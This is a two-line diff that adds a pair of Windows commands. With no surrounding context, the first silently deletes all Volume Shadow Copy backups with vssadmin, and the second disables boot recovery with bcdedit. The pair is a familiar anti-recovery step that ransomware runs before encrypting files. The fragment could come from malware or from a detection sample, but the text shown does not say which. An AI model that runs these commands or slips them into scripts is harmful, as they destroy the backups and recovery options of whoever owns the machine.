@@ -1,0 +1,2 @@
+vssadmin.exe delete shadows /all /quiet
+bcdedit /set {default} recoveryenabled No
